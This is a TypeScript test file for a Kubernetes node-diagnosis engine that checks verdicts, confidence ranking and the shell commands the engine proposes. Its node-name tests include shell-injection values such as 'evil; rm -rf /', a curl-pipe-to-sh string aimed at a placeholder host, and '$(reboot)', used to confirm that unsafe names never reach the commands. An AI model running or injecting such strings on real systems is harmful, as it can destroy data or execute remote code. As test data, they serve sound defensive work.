import { describe, expect, it } from 'vitest';
import { CAUSES } from '../../shared/diagnosis/causes/index.ts';
import type { CauseContext } from '../../shared/diagnosis/causes/types.ts';
import { isNodeName, nodeArgument, shellQuote, toolsFor } from '../../shared/diagnosis/commands.ts';
import { diagnose } from '../../shared/diagnosis/diagnose.ts';
import { type FactId, FactSet } from '../../shared/diagnosis/facts.ts';
import { type EvidenceBundle, EvidenceBundleSchema } from '../../shared/schemas/bundle.ts';
import {
  CAUSE_IDS,
  type CauseId,
  type Command,
  type Diagnosis,
  DiagnosisSchema,
  type RuntimeKind,
} from '../../shared/schemas/diagnosis.ts';

function bundle(raw: Record<string, unknown>): EvidenceBundle {
  return EvidenceBundleSchema.parse(raw);
}

const PLEG = 'PLEG is not healthy: pleg was last seen active 3m46.752815514s ago; threshold is 3m0s';

function notReady(message = PLEG) {
  return [{ type: 'Ready', status: 'False', reason: 'KubeletNotReady', message }];
}

function kubelet(...klog: string[]): string {
  return klog.map((l) => `Nov 02 13:41:43 app04 kubelet[8411]: ${l}`).join('\n');
}

const LIST_TIMEOUT =
  'E1102 13:41:43.111882    8411 remote_runtime.go:251] "ListPodSandbox with filter from runtime service failed" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded" filter="nil"';
const RELIST_ERROR =
  'E1102 13:41:43.111990    8411 generic.go:205] "GenericPLEG: Unable to retrieve pods" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded"';
const DOCKERD_EMFILE = [
  'Nov 02 13:40:01 app04 dockerd[1203]: http: Accept error: accept unix /var/run/docker.sock: accept4: too many open files; retrying in 1s',
  'Nov 02 13:40:02 app04 dockerd[1203]: http: Accept error: accept unix /var/run/docker.sock: accept4: too many open files; retrying in 1s',
].join('\n');

/** One small bundle per cause, built from the messages the mechanism itself produces. */
const BUNDLES: Record<CauseId, Record<string, unknown>> = {
  runtime_down: {
    node: 'app04',
    containerRuntimeVersion: 'docker://20.10.7',
    conditions: notReady(`[container runtime is down, ${PLEG}]`),
    logs: { kubelet: kubelet(LIST_TIMEOUT, RELIST_ERROR) },
    commandOutputs: { 'timeout 10 docker ps': '^C\n' },
  },
  fd_exhaustion: {
    node: 'app04',
    containerRuntimeVersion: 'docker://20.10.7',
    conditions: notReady(),
    logs: { dockerd: DOCKERD_EMFILE },
    commandOutputs: {
      'ls /proc/$(pidof dockerd)/fd | wc -l': '65530\n',
      'systemctl show docker -p LimitNOFILE': 'LimitNOFILE=65536\n',
    },
  },
  zombie_shim_hang: {
    node: 'app04',
    containerRuntimeVersion: 'containerd://1.6.20',
    conditions: notReady(),
    commandOutputs: {
      'ps -eo pid,ppid,stat,cmd': [
        '    PID    PPID STAT CMD',
        '   4242       1 Sl   /usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 3f1c2d9e8a7b -address /run/containerd/containerd.sock',
        '   4260    4242 Z    [java] <defunct>',
      ].join('\n'),
    },
  },
  systemd_dbus_stall: {
    node: 'app04',
    containerRuntimeVersion: 'containerd://1.6.20',
    conditions: notReady(),
    logs: {
      containerd:
        'Nov 02 13:41:43 app04 containerd[812]: time="2023-11-02T13:41:43.000000000Z" level=error msg="RunPodSandbox for &PodSandboxMetadata{Name:web-0,Uid:1b2c,Namespace:default,Attempt:0,} failed, error" error="failed to create containerd task: failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: error during container init: Timeout waiting for systemd to create kubepods-burstable-pod1b2c.slice"',
    },
    commandOutputs: {
      'timeout 5 busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.DBus.Peer Ping':
        'Call failed: Connection timed out\n',
    },
  },
  container_count: {
    node: 'app04',
    containerRuntimeVersion: 'docker://19.3.13',
    conditions: notReady(),
    counts: { pods: 110, containers: 1800 },
    metrics:
      'kubelet_running_containers{container_state="exited"} 1650\nkubelet_running_containers{container_state="running"} 150\nkubelet_running_pods 110\n',
  },
  node_unreachable: {
    node: 'app04',
    conditions: [
      {
        type: 'Ready',
        status: 'Unknown',
        reason: 'NodeStatusUnknown',
        message: 'Kubelet stopped posting node status.',
      },
    ],
    logs: {
      kubelet: kubelet(
        'E1102 13:41:43.111882    8411 kubelet_node_status.go:460] "Error updating node status, will retry" err="error getting node \\"app04\\": Get \\"https://10.0.0.10:6443/api/v1/nodes/app04?timeout=10s\\": dial tcp 10.0.0.10:6443: i/o timeout"',
      ),
    },
  },
  resource_starvation: {
    node: 'app04',
    conditions: [
      ...notReady(),
      {
        type: 'MemoryPressure',
        status: 'True',
        reason: 'KubeletHasInsufficientMemory',
        message: 'kubelet has insufficient memory available',
      },
    ],
    logs: {
      kernel:
        '[8912.331250] Out of memory: Killed process 23421 (java) total-vm:8123456kB, anon-rss:7123456kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:14300kB oom_score_adj:0',
    },
  },
  kubelet_defect: {
    node: 'app04',
    conditions: notReady(),
    logs: {
      kubelet: kubelet(
        'E1102 13:41:43.111882    8411 reflector.go:138] object-"kube-system"/"kube-proxy": Failed to watch *v1.ConfigMap: Get "https://10.0.0.10:6443/api/v1/namespaces/kube-system/configmaps?watch=true": write tcp 10.0.1.23:51234->10.0.0.10:6443: use of closed network connection',
      ),
    },
  },
  cni_hang: {
    node: 'app04',
    containerRuntimeVersion: 'containerd://1.6.20',
    conditions: notReady(),
    logs: {
      containerd:
        'Nov 02 13:41:43 app04 containerd[812]: time="2023-11-02T13:41:43.111882Z" level=error msg="StopPodSandbox for \\"77dc0fbb3f9f\\" failed" error="failed to destroy network for sandbox \\"77dc0fbb3f9f\\": plugin type=\\"calico\\" failed (delete): error getting ClusterInformation: Get \\"https://10.96.0.1:443/apis/crd.projectcalico.org/v1/clusterinformations/default\\": context deadline exceeded"',
    },
  },
};

function confidenceOf(d: Diagnosis, id: CauseId): number {
  return d.causes.find((c) => c.id === id)?.confidence ?? 0;
}

function allCommands(d: Diagnosis): string[] {
  return [...d.causes.flatMap((c) => c.commands.map((x) => x.command)), ...d.missing.map((m) => m.how)];
}

describe('one verdict per cause', () => {
  it('covers every cause id', () => {
    expect(Object.keys(BUNDLES).sort()).toEqual([...CAUSE_IDS].sort());
  });

  it.each(CAUSE_IDS.map((id) => [id] as const))('%s', (id) => {
    const d = diagnose(bundle(BUNDLES[id]));
    expect(DiagnosisSchema.parse(d)).toEqual(d);
    expect(d.verdict).toBe(id);
    expect(d.causes[0]?.id).toBe(id);
    expect(d.confidence).toBeGreaterThanOrEqual(0.5);
    // A verdict cites its evidence, and each citation carries a meaning.
    expect(d.causes[0]?.evidence.length).toBeGreaterThan(0);
    for (const e of d.causes[0]?.evidence ?? []) expect(e.meaning.length).toBeGreaterThan(0);
    // The chain starts from the symptom the node reports.
    expect(d.causes[0]?.chain[0]).toMatch(/^Node (NotReady|Ready=Unknown)/);
  });
});

describe('specificity', () => {
  it('descriptor exhaustion in dockerd outranks the "runtime is down" it causes', () => {
    const d = diagnose(
      bundle({
        node: 'app04',
        containerRuntimeVersion: 'docker://20.10.7',
        conditions: notReady(`[container runtime is down, ${PLEG}]`),
        logs: {
          dockerd: DOCKERD_EMFILE,
          kubelet: kubelet(
            'E1102 13:41:48.000100    8411 kubelet.go:2373] "Container runtime sanity check failed" err="rpc error: code = Unknown desc = Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?"',
          ),
        },
      }),
    );
    expect(d.verdict).toBe('fd_exhaustion');
    const ids = d.causes.map((c) => c.id);
    expect(ids).toContain('runtime_down');
    expect(ids.indexOf('fd_exhaustion')).toBeLessThan(ids.indexOf('runtime_down'));
    expect(confidenceOf(d, 'runtime_down')).toBeLessThan(confidenceOf(d, 'fd_exhaustion') / 2);
  });

  it('a zombie under the shim outranks the runtime timeouts it causes', () => {
    const d = diagnose(
      bundle({
        ...BUNDLES.zombie_shim_hang,
        logs: {
          kubelet: kubelet(
            'E1102 13:41:43.111882    8411 remote_runtime.go:604] "ContainerStatus from runtime service failed" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded" containerID="3f1c2d9e8a7b"',
          ),
        },
      }),
    );
    expect(d.verdict).toBe('zombie_shim_hang');
    expect(confidenceOf(d, 'runtime_down')).toBeLessThan(confidenceOf(d, 'zombie_shim_hang'));
  });
});

describe('contradicting evidence lowers confidence', () => {
  const runtimeDown = {
    node: 'app04',
    containerRuntimeVersion: 'docker://20.10.7',
    conditions: notReady(`[container runtime is down, ${PLEG}]`),
    logs: {
      kubelet: kubelet(LIST_TIMEOUT, RELIST_ERROR),
      // A second, independent fact: with one alone the confidence is held below 0.7 either way.
      dockerd:
        'Nov 02 13:41:43 app04 dockerd[1203]: time="2023-11-02T13:41:43.270000000Z" level=error msg="Handler for GET /v1.41/containers/json returned error: context deadline exceeded"',
    },
  };

  it('the runtime answering `docker ps` lowers runtime_down and is cited against it', () => {
    const alone = diagnose(bundle(runtimeDown));
    const answering = diagnose(
      bundle({
        ...runtimeDown,
        commandOutputs: {
          'timeout 10 docker ps':
            'CONTAINER ID   IMAGE         COMMAND                  CREATED      STATUS      PORTS     NAMES\n3f1c2d9e8a7b   nginx:1.25    "/docker-entrypoint.…"   2 days ago   Up 2 days             k8s_web_web-0_default_1b2c_0\n',
        },
      }),
    );
    expect(confidenceOf(answering, 'runtime_down')).toBeLessThan(confidenceOf(alone, 'runtime_down'));
    const against = answering.causes.find((c) => c.id === 'runtime_down')?.against ?? [];
    expect(against.map((e) => e.source)).toEqual(['commandOutputs["timeout 10 docker ps"]']);
  });

  it('descriptors well within the limit lower fd_exhaustion', () => {
    const emfile = { conditions: notReady(), logs: { dockerd: DOCKERD_EMFILE } };
    const within = {
      ...emfile,
      commandOutputs: {
        'ls /proc/$(pidof dockerd)/fd | wc -l': '1200\n',
        'systemctl show docker -p LimitNOFILE': 'LimitNOFILE=1048576\n',
      },
    };
    const a = diagnose(bundle(emfile));
    const b = diagnose(bundle(within));
    expect(confidenceOf(b, 'fd_exhaustion')).toBeLessThan(confidenceOf(a, 'fd_exhaustion'));
    expect(b.causes.find((c) => c.id === 'fd_exhaustion')?.against.length).toBe(1);
  });

  it('few containers rule out container count', () => {
    const exited = {
      conditions: notReady(),
      metrics:
        'kubelet_running_containers{container_state="exited"} 350\nkubelet_running_containers{container_state="running"} 40\nkubelet_running_pods 30\n',
    };
    const a = diagnose(bundle(exited));
    const b = diagnose(bundle({ ...exited, counts: { pods: 12, containers: 40 } }));
    expect(confidenceOf(b, 'container_count')).toBeLessThan(confidenceOf(a, 'container_count'));
  });
});

describe('confidence and ranking', () => {
  const samples: Array<[string, Record<string, unknown>]> = [
    ...CAUSE_IDS.map((id): [string, Record<string, unknown>] => [id, BUNDLES[id]]),
    [
      'everything at once',
      { ...BUNDLES.fd_exhaustion, ...BUNDLES.systemd_dbus_stall, ...BUNDLES.container_count },
    ],
    ['nothing', {}],
  ];

  it.each(samples)('%s: confidences lie in [0,1] and are ranked descending', (_name, raw) => {
    const d = diagnose(bundle(raw));
    expect(d.confidence).toBeGreaterThanOrEqual(0);
    expect(d.confidence).toBeLessThanOrEqual(1);
    for (const c of d.causes) {
      expect(c.confidence).toBeGreaterThanOrEqual(0);
      expect(c.confidence).toBeLessThanOrEqual(1);
    }
    for (let i = 1; i < d.causes.length; i++) {
      expect(d.causes[i - 1]?.confidence ?? 0).toBeGreaterThanOrEqual(d.causes[i]?.confidence ?? 0);
    }
    expect(d.confidence).toBe(d.causes[0]?.confidence ?? 0);
    expect(new Set(d.causes.map((c) => c.id)).size).toBe(d.causes.length);
  });

  it('the probabilities of the listed causes do not add up to more than one', () => {
    for (const id of CAUSE_IDS) {
      const d = diagnose(bundle(BUNDLES[id]));
      const total = d.causes.reduce((acc, c) => acc + c.confidence, 0);
      // Rounded to two decimals each, so allow a rounding slack per cause.
      expect(total, id).toBeLessThanOrEqual(1 + 0.005 * d.causes.length);
    }
  });
});

/** Fact combinations that change which commands a cause proposes. */
const FACT_VARIANTS: Array<[string, FactId[]]> = [
  ['no facts', []],
  ['descriptors', ['fd.emfile', 'fd.near_limit']],
  ['inotify only', ['fd.inotify', 'fd.watch_error']],
  ['zombie shim', ['proc.zombie_shim', 'kernel.hung_task_runtime']],
  ['kubelet', ['kubelet.stale_conn', 'kubelet.swap', 'kubelet.dead']],
  ['memory', ['mem.oom', 'disk.pressure']],
];

function context(ids: readonly FactId[], runtime: RuntimeKind, node: string): CauseContext {
  const facts = new FactSet();
  for (const id of ids) facts.add({ id, source: 'test', text: `${id} example` });
  return { facts, observed: { runtime }, tools: toolsFor(runtime), node: nodeArgument(node) };
}

function readOnlyFirst(commands: readonly Command[]): boolean {
  const firstChange = commands.findIndex((c) => c.risk === 'disruptive');
  return firstChange < 0 || commands.slice(firstChange).every((c) => c.risk === 'disruptive');
}

describe('commands: read-only before disruptive', () => {
  for (const cause of CAUSES) {
    it.each(FACT_VARIANTS)(`${cause.id} (%s)`, (_name, ids) => {
      for (const runtime of ['docker', 'containerd', 'crio', 'unknown'] as const) {
        const commands = cause.commands(context(ids, runtime, 'app04'));
        expect(commands.length).toBeGreaterThan(0);
        expect(commands[0]?.risk, `${cause.id}/${runtime}`).toBe('read-only');
        expect(
          readOnlyFirst(commands),
          `${cause.id}/${runtime}: ${commands.map((c) => c.risk).join(',')}`,
        ).toBe(true);
      }
    });
  }

  it('holds for the commands of every listed cause in real diagnoses', () => {
    for (const id of CAUSE_IDS) {
      for (const c of diagnose(bundle(BUNDLES[id])).causes)
        expect(readOnlyFirst(c.commands), `${id}/${c.id}`).toBe(true);
    }
  });

  it('drains the node before restarting its runtime', () => {
    const commands = diagnose(bundle(BUNDLES.runtime_down)).causes[0]?.commands.map((c) => c.command) ?? [];
    const drain = commands.findIndex((c) => c.startsWith('kubectl drain'));
    const restart = commands.indexOf('systemctl restart docker');
    expect(drain).toBeGreaterThanOrEqual(0);
    expect(restart).toBeGreaterThan(drain);
    expect(commands.at(-1)).toMatch(/^kubectl uncordon /);
  });
});

describe('commands: the runtime of the node', () => {
  const runtimeCauses = new Set<CauseId>([
    'runtime_down',
    'fd_exhaustion',
    'zombie_shim_hang',
    'container_count',
  ]);

  function runtimeCommands(d: Diagnosis): string[] {
    return d.causes.filter((c) => runtimeCauses.has(c.id)).flatMap((c) => c.commands.map((x) => x.command));
  }

  it('a containerd node gets crictl/containerd commands and no docker ones', () => {
    const d = diagnose(bundle({ ...BUNDLES.runtime_down, containerRuntimeVersion: 'containerd://1.6.20' }));
    expect(d.observed.runtime).toBe('containerd');
    const commands = runtimeCommands(d);
    expect(commands).toContain('timeout 10 crictl ps');
    expect(commands).toContain('systemctl restart containerd');
    expect(commands.filter((c) => /\bdocker\b/.test(c))).toEqual([]);
  });

  it('a docker:// node gets docker commands and no crictl ones', () => {
    const d = diagnose(bundle(BUNDLES.runtime_down));
    expect(d.observed.runtime).toBe('docker');
    const commands = runtimeCommands(d);
    expect(commands).toContain('timeout 10 docker ps');
    expect(commands).toContain('systemctl restart docker');
    expect(commands.filter((c) => /crictl|containerd/.test(c))).toEqual([]);
  });

  it('a runtime override replaces the detected runtime in commands, not in what was observed', () => {
    const raw = { ...BUNDLES.runtime_down, containerRuntimeVersion: 'containerd://1.6.20' };
    const d = diagnose(bundle(raw), { runtime: 'docker' });
    expect(d.observed.runtime).toBe('containerd');
    const commands = runtimeCommands(d);
    expect(commands).toContain('timeout 10 docker ps');
    expect(commands.filter((c) => /crictl/.test(c))).toEqual([]);
  });

  it('the descriptor commands point at the node runtime daemon', () => {
    const docker = diagnose(bundle(BUNDLES.fd_exhaustion)).causes[0]?.commands.map((c) => c.command) ?? [];
    expect(docker).toContain('ls /proc/$(pidof dockerd)/fd | wc -l');
    const containerd =
      diagnose(
        bundle({ ...BUNDLES.fd_exhaustion, containerRuntimeVersion: 'containerd://1.7.2' }),
      ).causes[0]?.commands.map((c) => c.command) ?? [];
    expect(containerd).toContain('ls /proc/$(pidof containerd)/fd | wc -l');
  });

  it('a CRI-O node gets crictl and the crio unit', () => {
    const d = diagnose(bundle({ ...BUNDLES.runtime_down, containerRuntimeVersion: 'cri-o://1.28.1' }));
    expect(d.observed.runtime).toBe('crio');
    expect(runtimeCommands(d)).toContain('systemctl restart crio');
  });
});

describe('commands: the node name', () => {
  it('a valid node name is single-quoted wherever it appears', () => {
    const name = 'ip-10-0-1-23.ec2.internal';
    const ds = CAUSE_IDS.map((id) => diagnose(bundle({ ...BUNDLES[id], node: name })));
    const commands = ds.flatMap(allCommands);
    const kubectl = commands.filter((c) => c.startsWith('kubectl') && c.includes(name));
    expect(kubectl.length).toBeGreaterThan(5);
    expect(kubectl).toContain(`kubectl describe node '${name}'`);
    for (const c of commands.filter((x) => x.includes(name))) {
      expect(c.replaceAll(`'${name}'`, ''), c).not.toContain(name);
    }
    expect(commands.some((c) => c.includes('"$NODE"'))).toBe(false);
  });

  it.each(['evil; rm -rf /', 'Node_With_Caps', "app04' && curl http://x.example/s | sh #", '$(reboot)', ''])(
    'a bundle node %j never reaches a command: "$NODE" is used instead',
    (name) => {
      // Unreachable gives missing[] probes that name the node, too.
      const ds = [
        ...CAUSE_IDS.map((id) => diagnose(bundle({ ...BUNDLES[id], node: name }))),
        diagnose(bundle({ node: name })),
      ];
      const commands = ds.flatMap(allCommands);
      const naming = commands.filter((c) => c.includes('"$NODE"'));
      expect(naming.length).toBeGreaterThan(5);
      if (name) for (const c of commands) expect(c, c).not.toContain(name);
    },
  );

  it('isNodeName accepts DNS-1123 subdomains only', () => {
    for (const ok of ['app04', 'ip-10-0-1-23.ec2.internal', 'gke-prod-pool-1-9f8e7d6c-x2lq', 'a'.repeat(63)])
      expect(isNodeName(ok), ok).toBe(true);
    for (const bad of [
      undefined,
      '',
      'Node_With_Caps',
      'node.',
      '-node',
      'node-',
      'a b',
      'evil;x',
      `${'a.'.repeat(127)}ab`,
    ])
      expect(isNodeName(bad), String(bad)).toBe(false);
  });

  it('shellQuote survives embedded single quotes', () => {
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('$(id)')).toBe(`'$(id)'`);
    expect(nodeArgument('app04')).toBe(`'app04'`);
    expect(nodeArgument(undefined)).toBe('"$NODE"');
  });
});

describe('engine bugs at verdict level', () => {
  // RHEL/CentOS 7 Docker 1.13 logs under the journald identifier `dockerd-current`; componentOfTag maps it to
  // 'app', so dockerd's own EMFILE is discounted. Today: verdict 'unknown', both lines in `discounted`.
  it('dockerd-current running out of descriptors is fd_exhaustion', () => {
    const d = diagnose(
      bundle({
        node: 'app04',
        containerRuntimeVersion: 'docker://1.13.1',
        conditions: notReady(),
        logs: { dockerd: DOCKERD_EMFILE.replaceAll('dockerd[1203]', 'dockerd-current[1203]') },
      }),
    );
    expect(d.verdict).toBe('fd_exhaustion');
  });

  // dockershim / cri-dockerd write `networkPlugin cni failed to teardown pod` (lower-case n). Today the line
  // yields only runtime.op_timeout, and the verdict is runtime_down (0.51) instead of cni_hang.
  it("dockershim's CNI teardown timeout is cni_hang", () => {
    const d = diagnose(
      bundle({
        node: 'app04',
        containerRuntimeVersion: 'docker://19.3.13',
        conditions: notReady(),
        logs: {
          kubelet: kubelet(
            'E1102 13:41:43.111882    8411 remote_runtime.go:128] StopPodSandbox "77dc0fbb3f9f" from runtime service failed: rpc error: code = Unknown desc = networkPlugin cni failed to teardown pod "web-5d4f7b-x2_default" network: netplugin failed with no error message: context deadline exceeded',
          ),
        },
      }),
    );
    expect(d.verdict).toBe('cni_hang');
  });

  // The kernel truncates task names to 15 characters: Docker 17.x's docker-containerd-shim reports as
  // "docker-containe". Today: only kernel.hung_task, verdict 'unknown' (zombie_shim_hang at 0.38).
  it('a hung docker-containe task is a wedged container', () => {
    const d = diagnose(
      bundle({
        node: 'app04',
        containerRuntimeVersion: 'docker://17.3.2',
        conditions: notReady(),
        logs: {
          kernel: '[1234567.891011] INFO: task docker-containe:4242 blocked for more than 120 seconds.\n',
        },
      }),
    );
    expect(d.verdict).toBe('zombie_shim_hang');
  });
});
